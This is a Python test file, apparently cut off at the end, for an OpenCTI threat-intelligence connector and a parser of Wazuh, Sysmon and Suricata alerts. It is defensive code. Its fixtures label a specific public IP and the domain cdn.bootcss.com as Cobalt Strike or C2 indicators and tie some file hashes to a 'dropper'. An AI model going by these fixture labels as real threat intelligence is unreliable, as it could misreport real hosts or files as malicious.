"""The OpenCTI connector and the wazuh-opencti alert rules, against the fake over real HTTP."""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
from fakes.opencti import BODY_MISSING, QUERY_MISSING, Creator, OpenCTIFake

from casefold.connectors.http import ProviderError, ProviderHTTP, QuotaExceeded, RetryPolicy
from casefold.connectors.opencti import (
    QUERY,
    OpenCTI,
    build_events,
    endpoints,
    indicator_patterns,
)
from casefold.connectors.opencti_alerts import alert_context, alert_observables

TOKEN = "opencti-test-token"
IP = "116.163.24.195"
DOMAIN = "cdn.bootcss.com"
SHA256 = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
EMPTY_SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
PAST = datetime(2020, 1, 1, tzinfo=UTC)


@pytest.fixture
def cti() -> Iterator[OpenCTIFake]:
    with OpenCTIFake(TOKEN) as fake:
        yield fake


@pytest.fixture
def client() -> Iterator[httpx.Client]:
    with httpx.Client() as c:
        yield c


def connector(
    client: httpx.Client, url: str, token: str = TOKEN, **kwargs: Any
) -> tuple[OpenCTI, ProviderHTTP]:
    http = ProviderHTTP(
        "opencti", client, RetryPolicy(attempts=3, backoff=0.01, timeout=2), sleep=lambda s: None
    )
    return OpenCTI(http, url, token, **kwargs), http


@pytest.fixture
def octi(cti: OpenCTIFake, client: httpx.Client) -> OpenCTI:
    return connector(client, cti.url)[0]


# --- the request --------------------------------------------------------------------------------


def test_request_headers_body_and_endpoint(cti: OpenCTIFake, octi: OpenCTI):
    octi.lookup("ip", IP)
    [recorded] = cti.requests
    request = recorded.request
    assert (request.method, request.path) == ("POST", "/graphql")
    assert request.headers["authorization"] == f"Bearer {TOKEN}"
    assert request.headers["content-type"] == "application/json"
    assert request.headers["accept"] == "application/json"
    body = request.json()
    assert body["query"] == QUERY
    assert "indicators(filters: $ind, first: 10)" in QUERY
    assert "stixCyberObservables(filters: $obs, first: 10)" in QUERY
    assert body["variables"] == {
        "obs": {"mode": "or", "filterGroups": [], "filters": [{"key": "value", "values": [IP]}]},
        "ind": {
            "mode": "and",
            "filterGroups": [],
            "filters": [
                {"key": "pattern_type", "values": ["stix"]},
                {"mode": "or", "key": "pattern", "values": [f"[ipv4-addr:value = '{IP}']"]},
            ],
        },
    }


@pytest.mark.parametrize(
    ("kind", "value", "key", "patterns"),
    [
        ("ip", "2001:4860:4860::8888", "value", ["[ipv6-addr:value = '2001:4860:4860::8888']"]),
        (
            "domain",
            DOMAIN,
            "value",
            [f"[domain-name:value = '{DOMAIN}']", f"[hostname:value = '{DOMAIN}']"],
        ),
        (
            "url",
            "http://bad.example/x.sh",
            "value",
            ["[url:value = 'http://bad.example/x.sh']"],  # the value, not a literal 'x'
        ),
        ("hash", SHA256, "hashes.SHA-256", [f"[file:hashes.'SHA-256' = '{SHA256}']"]),
        (
            "hash",
            "44d88612fea8a8f36de82e1278abb02f",
            "hashes.MD5",
            ["[file:hashes.'MD5' = '44d88612fea8a8f36de82e1278abb02f']"],
        ),
        (
            "hash",
            "3395856ce81f2b7382dee72602f798b642f14140",
            "hashes.SHA-1",
            ["[file:hashes.'SHA-1' = '3395856ce81f2b7382dee72602f798b642f14140']"],
        ),
    ],
)
def test_filter_key_and_patterns_per_kind(
    cti: OpenCTIFake, octi: OpenCTI, kind: str, value: str, key: str, patterns: list[str]
):
    octi.lookup(kind, value)
    variables = cti.last_variables()
    assert variables["obs"]["filters"] == [{"key": key, "values": [value]}]
    assert variables["ind"]["filters"][1]["values"] == patterns


def test_url_indicator_is_found_by_its_own_pattern(cti: OpenCTIFake, octi: OpenCTI):
    url = "http://bad.example/x.sh"
    cti.add_indicator(f"[url:value = '{url}']", name="dropper", score=90)
    hit = octi.lookup("url", url)
    assert hit.found and hit.verdict == "malicious" and hit.score == 90
    assert hit.extra["events"][0]["event_type"] == "indicator_pattern_match"


def test_quotes_and_backslashes_are_escaped_in_patterns(cti: OpenCTIFake, octi: OpenCTI):
    url = "http://evil.example/a'b\\c"
    assert indicator_patterns("url", url) == ["[url:value = 'http://evil.example/a\\'b\\\\c']"]
    cti.add_indicator("[url:value = 'http://evil.example/a\\'b\\\\c']", name="odd url")
    assert octi.lookup("url", url).verdict == "malicious"


def test_legacy_hash_key_is_refused_by_opencti_6(cti: OpenCTIFake, client: httpx.Client):
    octi, _ = connector(client, cti.url, hash_key="hashes.SHA256")
    with pytest.raises(ProviderError) as err:
        octi.lookup("hash", SHA256)
    assert "UNSUPPORTED_ERROR" in str(err.value)
    assert "missing mapping for attribute [SHA256]" in str(err.value)
    assert not err.value.retryable
    assert len(cti.requests) == 1


def test_configured_hash_key_reaches_an_opencti_5(client: httpx.Client):
    with OpenCTIFake(TOKEN, hash_attributes=("MD5", "SHA1", "SHA256")) as old:
        old.add_observable(
            "StixFile", hashes={"SHA256": SHA256}, indicators=[], score=70, name="x.exe"
        )
        old.add_observable("StixFile", hashes={"SHA1": "a" * 40}, name="y.exe")
        octi, _ = connector(client, old.url, hash_key="hashes.SHA256")
        assert octi.lookup("hash", SHA256).found
        assert old.last_variables()["obs"]["filters"][0]["key"] == "hashes.SHA256"
        assert octi.lookup("hash", "a" * 40).found  # SHA-1 follows the key's spelling
        assert old.last_variables()["obs"]["filters"][0]["key"] == "hashes.SHA1"


@pytest.mark.parametrize("suffix", ["", "/", "/graphql", "/graphql/"])
def test_base_or_graphql_url_both_work(cti: OpenCTIFake, client: httpx.Client, suffix: str):
    indicator = cti.add_indicator(f"[ipv4-addr:value = '{IP}']", name="C2")
    octi, _ = connector(client, cti.url + suffix)
    assert endpoints(cti.url + suffix) == (cti.url + "/graphql", cti.url)
    event = octi.lookup("ip", IP).extra["events"][0]
    assert event["indicator_link"] == (
        f"{cti.url}/dashboard/observations/indicators/{indicator.id}"
    )


# --- the documented DNS example (§1.3 / §1.4) ---------------------------------------------------

DOC_DATA: dict[str, Any] = {
    "indicators": {
        "edges": [
            {
                "node": {
                    "id": "4c14daab-d133-43b6-88ef-e82ec0fd337a",
                    "type": "Indicator",
                    "created_at": "2023-08-30T13:39:42.959Z",
                    "updated_at": "2023-08-30T13:39:42.985Z",
                    "createdBy": {
                        "id": "b975431a-59a9-4982-b75c-cff659801f15",
                        "standard_id": "identity--15d97c2e-9367-521e-9306-03a9c99c538d",
                        "identity_class": "organization",
                        "name": "ThreatFox Abuse.ch",
                        "x_opencti_organization_type": None,
                        "x_opencti_reliability": "B",
                    },
                    "objectLabel": [{"value": "malicious-activity"}],
                    "externalReferences": {
                        "edges": [{"node": {"url": "https://attack.mitre.org/software/S0154/"}}]
                    },
                    "name": "Cobalt Strike",
                    "valid_until": "2023-09-29T12:17:03.000Z",
                    "revoked": False,
                    "confidence": 70,
                    "x_opencti_score": 50,
                    "x_opencti_detection": False,
                    "indicator_types": ["malicious-activity"],
                    "x_mitre_platforms": None,
                    "pattern_type": "stix",
                    "pattern": f"[ipv4-addr:value = '{IP}']",
                    "killChainPhases": [{"kill_chain_name": "mitre-attack"}],
                }
            }
        ],
        "pageInfo": {"hasNextPage": False, "globalCount": 1},
    },
    "stixCyberObservables": {
        "edges": [
            {
                "node": {
                    "id": "efcd09cc-8f0d-41f5-8fb2-c197b5459623",
                    "type": "Domain-Name",
                    "created_at": "2023-08-09T06:22:27.177Z",
                    "updated_at": "2023-08-09T06:22:27.246Z",
                    "createdBy": None,
                    "objectLabel": [{"value": "c2"}],
                    "externalReferences": {"edges": []},
                    "observable_value": DOMAIN,
                    "x_opencti_description": "TEST",
                    "x_opencti_score": 50,
                    "indicators": {
                        "edges": [
                            {
                                "node": {
                                    "id": "959feeae-2f16-4521-baca-af58a374c845",
                                    "name": DOMAIN,
                                    "valid_until": "2024-08-08T06:22:27.380Z",
                                    "revoked": False,
                                    "confidence": 15,
                                    "x_opencti_score": 50,
                                    "x_opencti_detection": False,
                                    "indicator_types": None,
                                    "x_mitre_platforms": None,
                                    "pattern_type": "stix",
                                    "pattern": f"[domain-name:value = '{DOMAIN}' OR "
                                    "domain-name:value = 'bootcss.com']",
                                    "objectLabel": [],
                                    "killChainPhases": [],
                                }
                            }
                        ]
                    },
                    "value": DOMAIN,
                    "stixCoreRelationships": {
                        "edges": [
                            {
                                "node": {
                                    "type": "IPv6-Addr",
                                    "relationship_type": "resolves-to",
                                    "related": {
                                        "id": "7a9f6847-12b1-41f7-bb4a-b41f94808547",
                                        "value": "2001:4860:4860::8888",
                                        "indicators": {"edges": []},
                                    },
                                }
                            }
                        ]
                    },
                }
            }
        ],
        "pageInfo": {"hasNextPage": False, "globalCount": 1},
    },
}
DOC_PATTERNS = [
    f"[domain-name:value = '{DOMAIN}']",
    f"[hostname:value = '{DOMAIN}']",
    f"[ipv4-addr:value = '{IP}']",
]
DOC_BASE = "https://opencti.example.org"


def test_documented_dns_example_gives_the_documented_events():
    data = copy.deepcopy(DOC_DATA)
    events = build_events(
        data, DOC_PATTERNS, [DOMAIN, IP], query_key="value", base_url=DOC_BASE + "/"
    )
    assert data == DOC_DATA  # the provider's answer is kept as it came
    assert events[0] == {
        "indicator": {
            "id": "4c14daab-d133-43b6-88ef-e82ec0fd337a",
            "type": "Indicator",
            "created_at": "2023-08-30T13:39:42.959Z",
            "updated_at": "2023-08-30T13:39:42.985Z",
            "createdBy": {
                "id": "b975431a-59a9-4982-b75c-cff659801f15",
                "standard_id": "identity--15d97c2e-9367-521e-9306-03a9c99c538d",
                "identity_class": "organization",
                "name": "ThreatFox Abuse.ch",
                "x_opencti_reliability": "B",
            },
            "externalReferences": ["https://attack.mitre.org/software/S0154/"],
            "name": "Cobalt Strike",
            "valid_until": "2023-09-29T12:17:03.000Z",
            "revoked": False,
            "confidence": 70,
            "x_opencti_score": 50,
            "x_opencti_detection": False,
            "indicator_types": ["malicious-activity"],
            "pattern_type": "stix",
            "pattern": f"[ipv4-addr:value = '{IP}']",
            "killChainPhases": ["mitre-attack"],
            "labels": ["malicious-activity"],
        },
        "indicator_link": f"{DOC_BASE}/dashboard/observations/indicators/"
        "4c14daab-d133-43b6-88ef-e82ec0fd337a",
        "query_key": "value",
        "query_values": ";".join(DOC_PATTERNS),
        "event_type": "indicator_pattern_match",
    }
    # The domain's own indicator was not a direct hit: it gets an observable event, with the
    # observable's fields at the top and the raw values (not patterns) as query_values.
    assert events[1] == {
        "id": "efcd09cc-8f0d-41f5-8fb2-c197b5459623",
        "type": "Domain-Name",
        "created_at": "2023-08-09T06:22:27.177Z",
        "updated_at": "2023-08-09T06:22:27.246Z",
        "labels": ["c2"],
        "observable_value": DOMAIN,
        "x_opencti_description": "TEST",
        "x_opencti_score": 50,
        "value": DOMAIN,
        "query_key": "value",
        "query_values": f"{DOMAIN};{IP}",
        "event_type": "observable_with_indicator",
        "observable_link": f"{DOC_BASE}/dashboard/observations/observables/"
        "efcd09cc-8f0d-41f5-8fb2-c197b5459623",
        "indicator": {
            "id": "959feeae-2f16-4521-baca-af58a374c845",
            "name": DOMAIN,
            "valid_until": "2024-08-08T06:22:27.380Z",
            "revoked": False,
            "confidence": 15,
            "x_opencti_score": 50,
            "x_opencti_detection": False,
            "pattern_type": "stix",
            "pattern": f"[domain-name:value = '{DOMAIN}' OR domain-name:value = 'bootcss.com']",
        },
        "multipleIndicators": False,
        "indicator_link": f"{DOC_BASE}/dashboard/observations/indicators/"
        "959feeae-2f16-4521-baca-af58a374c845",
    }
    assert len(events) == 2


def _doc_platform(cti: OpenCTIFake) -> None:
    """The §1.4 example's objects in the fake."""
    cobalt = cti.add_indicator(
        f"[ipv4-addr:value = '{IP}']",
        name="Cobalt Strike",
        id="4c14daab-d133-43b6-88ef-e82ec0fd337a",
        score=50,
        confidence=70,
        valid_until="2023-09-29T12:17:03Z",
        creator=Creator("ThreatFox Abuse.ch", id="b975431a-59a9-4982-b75c-cff659801f15"),
        labels=["malicious-activity"],
        kill_chain_phases=["mitre-attack"],
        external_references=["https://attack.mitre.org/software/S0154/"],
        indicator_types=["malicious-activity"],
    )
    own = cti.add_indicator(
        f"[domain-name:value = '{DOMAIN}' OR domain-name:value = 'bootcss.com']",
        name=DOMAIN,
        score=50,
        confidence=15,
    )
    domain = cti.add_observable(
        "Domain-Name", DOMAIN, indicators=[own], score=50, description="TEST", labels=["c2"]
    )
    v6 = cti.add_observable("IPv6-Addr", "2001:4860:4860::8888")
    cti.relate(domain, v6)
    cti.add_observable("IPv4-Addr", IP, indicators=[cobalt])


def test_dns_example_over_http(cti: OpenCTIFake, octi: OpenCTI):
    _doc_platform(cti)
    ip_hit = octi.lookup("ip", IP)
    assert ip_hit.found and ip_hit.verdict == "malicious" and ip_hit.score == 50
    assert ip_hit.summary == "indicator 'Cobalt Strike' (score 50, ThreatFox Abuse.ch)"
    # The IP observable's own indicator is the direct hit: reported once, not twice.
    [event] = ip_hit.extra["events"]
    assert event["event_type"] == "indicator_pattern_match"
    assert event["indicator"]["valid_until"] == "2023-09-29T12:17:03.000Z"
    assert event["indicator"]["createdBy"]["name"] == "ThreatFox Abuse.ch"
    assert event["indicator"]["labels"] == ["malicious-activity"]
    assert event["indicator"]["killChainPhases"] == ["mitre-attack"]
    assert event["query_values"] == f"[ipv4-addr:value = '{IP}']"
    assert "source" not in event

    domain_hit = octi.lookup("domain", DOMAIN)
    assert domain_hit.verdict == "malicious"
    [event] = domain_hit.extra["events"]
    assert event["event_type"] == "observable_with_indicator"
    assert event["observable_value"] == DOMAIN and event["labels"] == ["c2"]
    assert event["indicator"]["confidence"] == 15
    assert event["query_values"] == DOMAIN
    assert "related" not in event  # the related IPv6 has no indicator
    assert domain_hit.data["stixCyberObservables"]["edges"][0]["node"]["value"] == DOMAIN


def test_partial_pattern_match(cti: OpenCTIFake, octi: OpenCTI):
    cti.add_indicator(
        f"[domain-name:value = '{DOMAIN}' OR domain-name:value = 'bootcss.com']",
        name="bootcss",
        also_matches=[f"[domain-name:value = '{DOMAIN}']"],
    )
    [event] = octi.lookup("domain", DOMAIN).extra["events"]
    assert event["event_type"] == "indicator_partial_pattern_match"


def test_observable_with_related_indicator(cti: OpenCTIFake, octi: OpenCTI):
    bad = cti.add_indicator("[domain-name:value = 'evil.example']", name="evil C2", score=80)
    weaker = cti.add_indicator("[domain-name:value = 'evil.example' ]", name="old", score=20)
    domain = cti.add_observable("Domain-Name", "evil.example", indicators=[weaker, bad])
    address = cti.add_observable("IPv4-Addr", "1.2.3.4", score=10)
    cti.relate(domain, address, "resolves-to")
    hit = octi.lookup("ip", "1.2.3.4")
    assert hit.found and hit.verdict == "suspicious" and hit.score == 80
    assert "evil.example" in hit.summary and "evil C2" in hit.summary
    [event] = hit.extra["events"]
    assert event["event_type"] == "observable_with_related_indicator"
    assert event["value"] == "1.2.3.4" and "indicator" not in event
    assert event["multipleIndicators"] is False
    related = event["related"]
    assert related["id"] == domain.id
    assert related["type"] == "Domain-Name"
    assert related["relationship"] == "resolves-to"
    assert related["value"] == "evil.example"
    assert related["indicator"]["id"] == bad.id  # the best of the two
    assert related["multipleIndicators"] is True
    assert related["indicator_link"].endswith(f"/dashboard/observations/indicators/{bad.id}")
    assert event["observable_link"].endswith(f"/dashboard/observations/observables/{address.id}")


def test_related_indicator_already_reported_directly_is_not_repeated(
    cti: OpenCTIFake, octi: OpenCTI
):
    # One indicator for the address, also attached to the domain that resolves to it.
    c2 = cti.add_indicator("[ipv4-addr:value = '1.2.3.4']", name="C2", score=60)
    domain = cti.add_observable("Domain-Name", "evil.example", indicators=[c2])
    address = cti.add_observable("IPv4-Addr", "1.2.3.4", indicators=[c2])
    cti.relate(domain, address)
    events = octi.lookup("ip", "1.2.3.4").extra["events"]
    assert [e["event_type"] for e in events] == ["indicator_pattern_match"]
    # Asked about the domain, the address's indicator is news: it comes as a related one.
    hit = octi.lookup("domain", "evil.example")
    assert [e["event_type"] for e in hit.extra["events"]] == ["observable_with_indicator"]
    assert hit.extra["events"][0]["indicator"]["name"] == "C2"


def test_ranking_tolerates_null_scores_and_keeps_three(cti: OpenCTIFake, octi: OpenCTI):
    pattern = "[ipv4-addr:value = '1.2.3.4']"
    cti.add_indicator(pattern, name="no score", score=None, confidence=None)
    cti.add_indicator(pattern, name="revoked", score=100, revoked=True)
    cti.add_indicator(pattern, name="forty", score=40)
    cti.add_indicator(pattern, name="seventy expired", score=70, valid_until=PAST)
    cti.add_indicator(pattern, name="seventy", score=70, valid_until=None)
    hit = octi.lookup("ip", "1.2.3.4")
    names = [e["indicator"]["name"] for e in hit.extra["events"]]
    assert names == ["seventy", "seventy expired", "forty"]
    assert hit.verdict == "malicious" and hit.score == 70
    assert hit.summary.startswith("indicator 'seventy' (score 70")


def test_detection_flag_outranks_score(cti: OpenCTIFake, octi: OpenCTI):
    pattern = "[ipv4-addr:value = '1.2.3.4']"
    cti.add_indicator(pattern, name="high", score=90)
    cti.add_indicator(pattern, name="detecting", score=30, detection=True)
    names = [e["indicator"]["name"] for e in octi.lookup("ip", "1.2.3.4").extra["events"]]
    assert names == ["detecting", "high"]


def test_odd_valid_until_and_null_fields_do_not_crash():
    def node(name: str, valid_until: Any, score: Any) -> dict[str, Any]:
        return {
            "node": {
                "id": name,
                "name": name,
                "pattern": "[ipv4-addr:value = '1.2.3.4']",
                "valid_until": valid_until,
                "x_opencti_score": score,
                "confidence": None,
                "revoked": None,
                "objectLabel": None,
                "killChainPhases": None,
            }
        }

    data = {
        "indicators": {
            "edges": [
                node("bad date", "not a date", None),
                node("no millis", "2020-01-01T00:00:00Z", 60),
                node("offset", "2999-01-01T00:00:00.5+02:00", 60),
                node("stringified", "2999-01-01T00:00:00.000Z", "75"),
            ]
        },
        "stixCyberObservables": None,
    }
    events = build_events(
        data, ["[ipv4-addr:value = '1.2.3.4']"], ["1.2.3.4"], query_key="value", base_url="x"
    )
    assert [e["indicator"]["name"] for e in events] == ["stringified", "offset", "no millis"]


def test_stix_file_observable_with_own_indicator(cti: OpenCTIFake, octi: OpenCTI):
    ind = cti.add_indicator(
        f"[file:hashes.'SHA-256' = '{SHA256}' AND file:name = 'invoice.exe']",
        name="invoice dropper",
        score=85,
    )
    stix_file = cti.add_observable(
        "StixFile",
        hashes={"SHA-256": SHA256, "MD5": "44d88612fea8a8f36de82e1278abb02f"},
        name="invoice.exe",
        size=73802,
        indicators=[ind],
    )
    hit = octi.lookup("hash", SHA256)
    assert hit.verdict == "malicious" and hit.score == 85
    [event] = hit.extra["events"]
    assert event["event_type"] == "observable_with_indicator"
    assert event["type"] == "StixFile" and event["name"] == "invoice.exe"
    assert event["size"] == 73802 and event["observable_value"] == SHA256
    assert event["indicator"]["name"] == "invoice dropper"
    assert event["observable_link"].endswith(stix_file.id)
    assert "stixCoreRelationships" not in event and "indicators" not in event


def test_stix_file_without_indicators_is_known_but_unknown(cti: OpenCTIFake, octi: OpenCTI):
    cti.add_observable("StixFile", hashes={"SHA-256": SHA256}, name="setup.exe", score=10)
    hit = octi.lookup("hash", SHA256)
    assert hit.found and hit.verdict == "unknown" and hit.score is None
    assert hit.extra["events"] == []
    assert "no indicator" in hit.summary


def test_upper_case_hash_in_opencti_does_not_match(cti: OpenCTIFake, octi: OpenCTI):
    # Matching is exact: this is why alert hashes are lower-cased before the lookup.
    cti.add_observable("StixFile", hashes={"SHA-256": SHA256.upper()})
    assert not octi.lookup("hash", SHA256).found


def test_observable_score_alone(cti: OpenCTIFake, octi: OpenCTI):
    cti.add_observable("Domain-Name", "scored.example", score=75)
    cti.add_observable("Domain-Name", "benign.example", score=20)
    scored = octi.lookup("domain", "scored.example")
    assert scored.verdict == "suspicious" and scored.score == 75
    assert scored.extra["events"] == []
    benign = octi.lookup("domain", "benign.example")
    assert benign.found and benign.verdict == "unknown"


def test_revoked_indicator_alone_is_not_a_verdict(cti: OpenCTIFake, octi: OpenCTI):
    cti.add_indicator("[ipv4-addr:value = '1.2.3.4']", name="withdrawn", revoked=True)
    hit = octi.lookup("ip", "1.2.3.4")
    assert hit.found and hit.verdict == "unknown" and hit.score is None
    assert "revoked" in hit.summary
    assert hit.extra["events"][0]["indicator"]["revoked"] is True  # still reported, ranked last


def test_unknown_value(cti: OpenCTIFake, octi: OpenCTI):
    cti.add_indicator("[ipv4-addr:value = '1.2.3.4']")
    hit = octi.lookup("ip", "8.8.8.8")
    assert (hit.found, hit.verdict, hit.score) == (False, "unknown", None)
    assert hit.extra == {"events": []}
    assert hit.summary == "not known to OpenCTI"
    assert cti.calls_for("8.8.8.8") == 1 and cti.calls_for("1.2.3.4") == 0


# --- errors ---------------------------------------------------------------------------------


def test_wrong_token_is_auth_required_without_leaking_it(cti: OpenCTIFake, client: httpx.Client):
    secret = "wrong-secret-token-123"
    octi, _ = connector(client, cti.url, token=secret)
    with pytest.raises(ProviderError) as err:
        octi.lookup("ip", IP)
    message = str(err.value)
    assert "AUTH_REQUIRED" in message and "token" in message
    assert secret not in message
    assert not err.value.retryable and err.value.status == 401
    assert len(cti.requests) == 1  # a bad token is not worth retrying


def test_missing_bearer_gets_the_documented_body(cti: OpenCTIFake):
    r = httpx.post(cti.url + "/graphql", json={"query": QUERY, "variables": {}})
    assert r.status_code == 200
    body = r.json()
    assert body["data"] is None
    assert body["errors"][0]["name"] == "AUTH_REQUIRED"
    assert body["errors"][0]["message"] == "You must be logged in to do this."
    assert body["errors"][0]["extensions"]["data"]["http_status"] == 401


@pytest.mark.parametrize(
    ("content", "content_type", "message"),
    [
        (b"{not json", "application/json", BODY_MISSING),
        (b"{}", "application/json", BODY_MISSING),
        (b'{"query": "x"}', "text/plain", BODY_MISSING),
        (b'{"variables": {}}', "application/json", QUERY_MISSING),
    ],
)
def test_fake_rejects_malformed_requests_with_400(
    cti: OpenCTIFake, content: bytes, content_type: str, message: str
):
    r = httpx.post(
        cti.url + "/graphql",
        content=content,
        headers={"content-type": content_type, "authorization": f"Bearer {TOKEN}"},
    )
    assert r.status_code == 400
    assert r.json()["errors"][0]["message"] == message


def test_server_errors_are_retried_then_succeed(cti: OpenCTIFake, client: httpx.Client):
    cti.add_indicator(f"[ipv4-addr:value = '{IP}']", name="C2")
    cti.fail_next(2, 500)
    octi, http = connector(client, cti.url)
    assert octi.lookup("ip", IP).verdict == "malicious"
    assert [r.status for r in cti.requests] == [500, 500, 200]
    assert http.calls == 3


def test_server_errors_past_the_attempts_are_retryable(cti: OpenCTIFake, octi: OpenCTI):
    cti.fail_next(3, 502)
    with pytest.raises(ProviderError) as err:
        octi.lookup("ip", IP)
    assert err.value.retryable and "502" in str(err.value)


def test_429_is_a_spent_quota(cti: OpenCTIFake, octi: OpenCTI):
    cti.fail_next(1, 429)
    with pytest.raises(QuotaExceeded):
        octi.lookup("ip", IP)
    assert len(cti.requests) == 1


def test_body_that_is_not_json(cti: OpenCTIFake, octi: OpenCTI):
    cti.fail_next(1, "not-json")
    with pytest.raises(ProviderError) as err:
        octi.lookup("ip", IP)
    assert "not JSON" in str(err.value) and "Please sign in" in str(err.value)
    assert not err.value.retryable


@pytest.mark.parametrize("status", [400, 401, 403])
def test_client_errors_are_not_retried(cti: OpenCTIFake, octi: OpenCTI, status: int):
    cti.fail_next(1, status)
    with pytest.raises(ProviderError) as err:
        octi.lookup("ip", IP)
    assert err.value.status == status and not err.value.retryable
    assert f"answered {status}" in str(err.value)
    assert ("check the API token" in str(err.value)) == (status != 400)
    assert len(cti.requests) == 1


def test_wrong_path_is_an_error(cti: OpenCTIFake, client: httpx.Client):
    octi, _ = connector(client, cti.url + "/api")
    with pytest.raises(ProviderError) as err:
        octi.lookup("ip", IP)
    assert err.value.status == 404


# --- which alerts, which observables (§1.2) ------------------------------------------------------

SYSMON_EID1 = {
    "id": "1714731164.8812345",
    "rule": {"id": "92052", "groups": ["windows", "sysmon", "sysmon_eid1_detections"]},
    "data": {
        "win": {
            "eventdata": {
                "image": "C:\\\\Users\\\\bob\\\\Downloads\\\\invoice.exe",
                "hashes": "SHA1=3395856CE81F2B7382DEE72602F798B642F14140,"
                "MD5=44D88612FEA8A8F36DE82E1278ABB02F,SHA256=" + SHA256.upper() + ","
                "IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744",
            }
        }
    },
}
SURICATA = {
    "id": "1714731302.9912",
    "rule": {"id": "86601", "groups": ["ids", "suricata"]},
    "data": {
        "in_iface": "eth1",
        "event_type": "alert",
        "src_ip": "10.20.0.42",
        "src_port": "49822",
        "dest_ip": IP,
        "dest_port": "443",
        "proto": "TCP",
        "app_proto": "tls",
        "alert": {
            "action": "allowed",
            "gid": "1",
            "signature_id": "2027082",
            "rev": "4",
            "signature": "ET MALWARE Cobalt Strike Beacon Observed",
            "category": "A Network Trojan was detected",
            "severity": "1",
        },
    },
}
SYSMON_DNS = {
    "id": "1693478062.194800757",
    "rule": {"id": "100140", "groups": ["windows", "sysmon", "sysmon_eid22_detections"]},
    "data": {
        "win": {
            "eventdata": {
                "queryName": DOMAIN,
                "queryResults": f"type:  5 cdn.bootcss.com.cdn.dnsv1.com.cn;::ffff:{IP};"
                "::ffff:10.1.2.3;2a00:1450:4010:0c0e:0000:0000:0000:0071;",
                "image": "C:\\\\Program Files\\\\Google\\\\Chrome\\\\Application\\\\chrome.exe",
            }
        }
    },
}


def _alert(groups: list[str], **parts: Any) -> dict[str, Any]:
    return {"id": "1.2", "rule": {"id": "1", "groups": groups}, **parts}


def _sample(samples_dir: Path, name: str) -> dict[str, Any]:
    return json.loads((samples_dir / name).read_text())


def test_sysmon_eid1_hash_is_lower_cased_sha256():
    assert alert_observables(SYSMON_EID1) == [("hash", SHA256)]


@pytest.mark.parametrize(
    ("name", "sha256"),
    [
        (
            "sysmon_event1_process_create_hashes_100500.json",  # group sysmon_event1
            "0479327e7136fa14f69d231d1b38cf654421073c8a0166bf6690a3d2c0b14ffa",
        ),
        (
            "sysmon_event1_suspicious_svchost_61618_indexer_doc.json",  # sysmon_process-anomalies
            "643ec58e82e0272c97c2a59f6020970d881af19c0ad5029db9c958c13b6558c7",
        ),
    ],
)
def test_real_sysmon_samples(samples_dir: Path, name: str, sha256: str):
    assert alert_observables(_sample(samples_dir, name)) == [("hash", sha256)]


def test_branch_one_is_a_prefix_match():
    hashes = {"data": {"win": {"eventdata": {"hashes": "SHA256=" + SHA256}}}}
    # sysmon_eid10… starts with sysmon_eid1, so it is read as a hash-carrying event.
    assert alert_observables(_alert(["sysmon_eid10_detections"], **hashes)) == [("hash", SHA256)]
    # …and since the first matching branch wins, a process-access event without hashes gives
    # nothing, even if it carries a public address.
    no_hash = {"data": {"win": {"eventdata": {"destinationIp": "8.8.8.8"}}}}
    assert alert_observables(_alert(["sysmon_eid10_detections", "sysmon_eid3"], **no_hash)) == []
    # Branch 4 wants sysmon_event_22 or sysmon_eid22: sysmon_event22 is not inspected.
    dns = {"data": {"win": {"eventdata": {"queryName": "evil.example"}}}}
    assert alert_observables(_alert(["sysmon_event22"], **dns)) == []
    assert alert_observables(_alert(["sysmon_event_22"], **dns)) == [("domain", "evil.example")]


def test_sysmon_eid3_destination():
    def eid3(ip: str) -> dict[str, Any]:
        return _alert(
            ["sysmon", "sysmon_eid3_detections"],
            data={"win": {"eventdata": {"destinationIp": ip, "sourceIp": "8.8.4.4"}}},
        )

    assert alert_observables(eid3("8.8.8.8")) == [("ip", "8.8.8.8")]
    assert alert_observables(eid3("192.168.1.20")) == []  # private: nothing to ask
    assert alert_observables(eid3("203.0.113.7")) == []  # documentation range is not global
    assert alert_observables(eid3("2A00:1450:4010:0C0E:0000:0000:0000:0071")) == [
        ("ip", "2a00:1450:4010:c0e::71")
    ]
    assert alert_observables(eid3("::ffff:8.8.8.8")) == [("ip", "8.8.8.8")]


def test_suricata_prefers_the_public_destination():
    assert alert_observables(SURICATA) == [("ip", IP)]
    inbound = copy.deepcopy(SURICATA)
    inbound["data"]["src_ip"], inbound["data"]["dest_ip"] = "8.8.4.4", "10.20.0.42"
    assert alert_observables(inbound) == [("ip", "8.8.4.4")]
    forti = _alert(["ids", "fortigate"], data={"srcip": "10.0.0.1", "dstip": "1.1.1.1"})
    assert alert_observables(forti) == [("ip", "1.1.1.1")]


def test_suricata_between_private_hosts_is_nothing_to_do(samples_dir: Path):
    alert = _sample(samples_dir, "suricata_ids_alert_86601_indexer_doc.json")
    assert alert_observables(alert) == []


def test_packetbeat_dns_query():
    alert = _alert(
        ["ids", "packetbeat"],
        data={
            "method": "QUERY",
            "dns": {
                "question": {"name": "Evil.Example."},
                "answers": [
                    {"type": "CNAME", "data": "edge.evil.example"},
                    {"type": "A", "data": "1.2.3.4"},
                    {"type": "A", "data": "10.0.0.8"},
                    {"type": "AAAA", "data": "2606:4700:0000:0000:0000:0000:0000:1111"},
                ],
            },
        },
    )
    assert alert_observables(alert) == [
        ("domain", "evil.example"),
        ("ip", "1.2.3.4"),
        ("ip", "2606:4700::1111"),
    ]
    assert alert_context(alert)["queryResults"] == (
        "edge.evil.example;1.2.3.4;10.0.0.8;2606:4700:0000:0000:0000:0000:0000:1111"
    )


def test_sysmon_eid22_name_and_public_answers():
    assert alert_observables(SYSMON_DNS) == [
        ("domain", DOMAIN),
        ("ip", IP),  # IPv4-mapped → IPv4; the CNAME and the private answer are dropped
        ("ip", "2a00:1450:4010:c0e::71"),  # compressed, as OpenCTI stores it
    ]


def test_syscheck_added_and_modified(samples_dir: Path):
    # The real "file added" sample is an empty file: its SHA-256 is noise, never asked about.
    assert alert_observables(_sample(samples_dir, "syscheck_file_added_554_sha256.json")) == []
    for event in ("syscheck_entry_added", "syscheck_entry_modified"):
        alert = _alert(
            ["ossec", "syscheck", event, "syscheck_file"],
            syscheck={"path": "/usr/bin/evil", "sha256_after": SHA256.upper()},
        )
